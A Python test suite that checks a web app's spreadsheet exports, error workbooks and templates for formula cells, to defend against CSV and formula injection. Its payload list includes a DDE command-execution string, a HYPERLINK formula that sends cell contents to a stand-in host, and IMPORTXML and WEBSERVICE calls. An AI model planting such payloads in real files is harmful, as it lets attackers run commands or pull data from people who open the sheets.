"""Nothing that an export writes is a formula, in either format, wherever the text came from."""

import csv
import zipfile

import openpyxl
import pytest
from import_export import widgets

from core.fields import Sealed
from core.models import Organisation
from core.sheets import (
    BooleanWidget,
    DateWidget,
    IntegerWidget,
    MoneyWidget,
    imports,
    sheet_named,
)
from core.sheets.columns import DANGEROUS, harmless, unprotected
from core.sheets.engine import Context
from core.sheets.workbooks import write_export, write_template
from tests.contracts.test_sheets import SHEETS, at, examples, table, upload

__all__ = ["at", "examples"]  # fixtures
ENDINGS = [".xlsx", ".csv"]
PAYLOADS = [
    "=1+1", "=SUM(A1:A9)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/"&A1,"点")',
    "=IMPORTXML(A1)", "=WEBSERVICE(A1)", "=1+1,第二格", '="1"', "='a'!A1", "==1",
    "+1+1", "+86 138", "++1", "-1+1", "-2+3+cmd|' /C calc'!A0", "--1", "@SUM(1+1)", "@a",
    "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)",
    "'=1+1", "''=1+1", "=1\n=2", "=\u202e1+1",
]  # fmt: skip
COMPUTED = DateWidget | IntegerWidget | MoneyWidget | BooleanWidget


def plant(sheet, instance, text):
    """Put the text where every column of text looks for its value, past every form and rule."""
    instance.above = text  # of a union, which its sheet computes
    for column in sheet.fields.values():
        if column.attribute is None or isinstance(column.widget, COMPUTED):
            continue
        *way, last = column.attribute.split("__")
        target = instance
        for name in way:
            target = getattr(target, name, None)
        if isinstance(getattr(target, last, None), Organisation):
            target, last = getattr(target, last), column.widget.shown
        elif isinstance(column.widget, widgets.ForeignKeyWidget):
            continue
        if target is not None and isinstance(getattr(target, last, None), str | Sealed):
            setattr(target, last, text)
    return instance


def cells_of(path):
    """The cells of an export: texts and numbers. A formula cell fails the test."""
    if path.suffix == ".csv":
        with path.open(encoding="utf-8-sig", newline="") as stream:
            return list(csv.reader(stream))
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            assert b"<f>" not in archive.read(name), name
            assert b"<hyperlink" not in archive.read(name), name
    book = openpyxl.load_workbook(path)
    assert {cell.data_type for page in book for row in page.rows for cell in row} <= {"s", "n"}
    return [[cell.value for cell in row] for page in book for row in page.rows]


def texts(rows):
    return [cell for row in rows for cell in row if isinstance(cell, str)]


@pytest.mark.parametrize("ending", ENDINGS)
@pytest.mark.parametrize("name", SHEETS)
def test_an_export_has_no_formula_cell(name, ending, at, examples, tmp_path):
    organisation, by = at
    upload(name, at, table(*examples))
    sheet = sheet_named(name)
    stored = sheet.rows(Context(sheet, organisation, by))
    path = tmp_path / f"export{ending}"
    rows = (plant(sheet, stored.last(), text) for text in PAYLOADS)
    facts = dict.fromkeys(["导出人", "用途"], PAYLOADS[2])
    assert write_export(sheet, path, rows, facts=facts) == len(PAYLOADS)
    found = cells_of(path)
    assert not [text for text in texts(found) if text[:1] and text[0] in DANGEROUS]
    if ending == ".csv":  # a workbook has other words for the ends of lines
        for text, row in zip(PAYLOADS, found[2:], strict=True):
            assert [unprotected(cell) for cell in row].count(text) >= 2


@pytest.mark.parametrize("name", SHEETS)
def test_a_table_to_mend_has_no_formula_cell(name, at, examples, tmp_path):
    headings, rows = examples
    made = upload(name, at, table(headings, [[text] * len(headings) for text in PAYLOADS]))
    assert made.rejected == made.read == len(PAYLOADS)
    path = tmp_path / "errors.xlsx"
    imports.write_error_workbook(made, path)
    assert not [text for text in texts(cells_of(path)) if text[:1] and text[0] in DANGEROUS]


@pytest.mark.parametrize("name", SHEETS)
def test_a_template_has_no_formula_cell(name, tmp_path):
    write_template(sheet_named(name), tmp_path / "template.xlsx")
    assert cells_of(tmp_path / "template.xlsx")


@pytest.mark.parametrize("text", [*PAYLOADS, "张三", "'90后", "'", "", "12", "''12"])
def test_what_was_made_harmless_can_be_had_back(text):
    assert unprotected(harmless(text)) == text


def test_numbers_stay_numbers(world, tmp_path):
    at = world.city, world.user("clerk")
    headings = ["统一社会信用代码", "单位名称", "单位性质", "所属行业", "主管工会", "职工人数"]
    row = ["91330600MA0000015N", "甲厂", "私营", "制造业", "city", "320"]
    upload("employers", at, table(headings, [row]))
    sheet = sheet_named("employers")
    for ending in ENDINGS:
        stored = sheet.rows(Context(sheet, *at))
        write_export(sheet, tmp_path / f"e{ending}", stored, facts={})
    number = {ending: cells_of(tmp_path / f"e{ending}") for ending in ENDINGS}
    assert number[".xlsx"][1][6] == 320
    assert number[".csv"][2][6] == "320"
    assert number[".csv"][2][0] == "'91330600MA0000015N"
